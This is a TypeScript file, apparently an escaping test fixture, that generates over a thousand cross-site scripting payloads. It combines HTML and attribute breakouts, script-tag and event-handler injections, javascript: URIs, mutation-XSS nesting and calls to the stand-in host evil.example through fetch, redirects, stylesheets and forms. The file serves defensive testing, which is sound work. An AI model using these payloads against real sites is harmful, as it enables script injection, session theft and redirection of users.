// Strings that try to become markup, script, style, a link or a request when somebody forgets to escape them.

const scripts = ['alert(1)', 'fetch(`//evil.example`)', 'location="//evil.example"'];
const breakouts = [
  '',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  ']]>',
  '</dd>',
  '</dl></section>',
  '</title>',
  '</style>',
  '</td></table>',
];

const markup = (script: string): readonly string[] => [
  `<script>${script}</script>`,
  `<img src=x onerror=${script}>`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<a href="javascript:${script}">x</a>`,
  `<style>@import "//evil.example";*{background:url(//evil.example)}</style>`,
  `<link rel=stylesheet href="//evil.example">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href="//evil.example/">`,
  `<form action="//evil.example"><input name=x>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
  `<details open ontoggle=${script}>`,
  `<template><p>`,
  `<plaintext>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<!--`,
  `<![CDATA[`,
  `<?xml version="1.0"?>`,
  `<dt>fake<dd>fake`,
  ` onmouseover=${script} x=`,
  ` style=background:url(//evil.example) `,
  `&#60;script&#62;${script}&#60;/script&#62;`,
  `&lt;b&gt;`,
  `&amp;lt;`,
  `\u202e<b>\u2066`,
  `\u0000<b>\u0007`,
  `\u2028<b>\ud800`,
];

/** More than a thousand of them. */
export const htmlPayloads: readonly string[] = scripts.flatMap((script) =>
  breakouts.flatMap((breakout) => markup(script).map((text) => breakout + text)),
);
